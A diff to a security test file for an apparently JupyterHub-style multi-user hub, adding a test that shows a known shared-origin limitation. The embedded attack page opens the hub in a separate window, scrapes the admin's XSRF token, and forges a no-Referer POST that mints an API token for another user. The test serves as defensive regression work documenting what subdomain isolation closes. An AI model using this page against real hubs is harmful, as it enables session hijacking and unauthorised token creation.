@@ -26,11 +26,45 @@ pytestmark = pytest.mark.systemd
 
 SCRIPT = Path(__file__).with_name("browser") / "user_page_attack.cjs"
 
-ATTACK_PAGE = """<!doctype html>
+ATTACK_PAGE = r"""<!doctype html>
 <title>loading</title>
 <script>
 (async () => {
   const seen = {};
+  const hub = new URLSearchParams(location.search).get("hub");
+  if (hub !== null) {
+    // The attack past the partial guard: a hub page in a window of its own, read, then a
+    // write that sends no Referer.
+    seen.origin = location.origin;
+    seen.server = (await fetch(location.pathname.replace(/static\/.*/, "api/status"))).status;
+    let xsrf = null;
+    try {
+      const w = window.open(hub + "/hub/home", "_blank");
+      for (let i = 0; i < 200; i++) {
+        await new Promise((r) => setTimeout(r, 100));
+        if (w.location.pathname === "/hub/home" && w.document.readyState === "complete") break;
+      }
+      const found = w.document.documentElement.outerHTML.match(/name="_xsrf" value="([^"]+)"/);
+      xsrf = found ? found[1] : null;
+      seen.read = xsrf ? "read" : "no-token";
+    } catch (error) {
+      seen.read = "blocked";
+    }
+    try {
+      const made = await fetch(hub + "/hub/api/users/BOB/tokens", {
+        method: "POST",
+        credentials: "include",
+        referrerPolicy: "no-referrer",
+        headers: {"X-XSRFToken": xsrf || "", "Content-Type": "application/json"},
+        body: JSON.stringify({note: "left in alice's home"}),
+      });
+      seen.token = made.status;
+    } catch (error) {
+      seen.token = "failed";
+    }
+    document.title = "done:" + JSON.stringify(seen);
+    return;
+  }
   try {
     const home = await fetch("/hub/home");
     seen.home = home.status;
@@ -83,3 +117,19 @@ def test_alices_page_cannot_use_the_admins_cookie_on_the_hub(
     # Before the guard: {"home": 200, "xsrf": true, "token": 201}.
     assert seen == {"home": 403, "xsrf": False, "token": 403}, (seen, hub.tail())
     assert "refused" in hub.tail()
+
+
+def test_without_subdomains_a_window_of_its_own_reads_the_hub(
+    hub: Hub, lab_daemon: Daemon, make_pam_user: Callable[..., PamUser]
+) -> None:
+    """The known limit of the shared origin, shown (SECURITY.md): what subdomain_host closes
+    (tests/api/hub/systemd/test_user_subdomains.py runs this same page at alice's origin)."""
+    admin, alice, bob = make_pam_user(admin=True), make_pam_user(), make_pam_user()
+    serve_attack_page(alice.name, bob.name)
+    status, body = lab_daemon.api("POST", f"/v1/sessions/{alice.name}", {})
+    assert status == 201 and body["state"] == "running", body
+    page = f"/user/{alice.name}/static/attack.html?hub={hub.url}"
+    seen = run_in_chromium(hub, SCRIPT, admin.name, admin.password, page, timeout=300)
+    assert seen["origin"] == hub.url and seen["server"] == 200, seen
+    assert seen["read"] == "read", seen
+    assert seen["token"] == 201, seen  # a token for bob, made with the admin's cookie
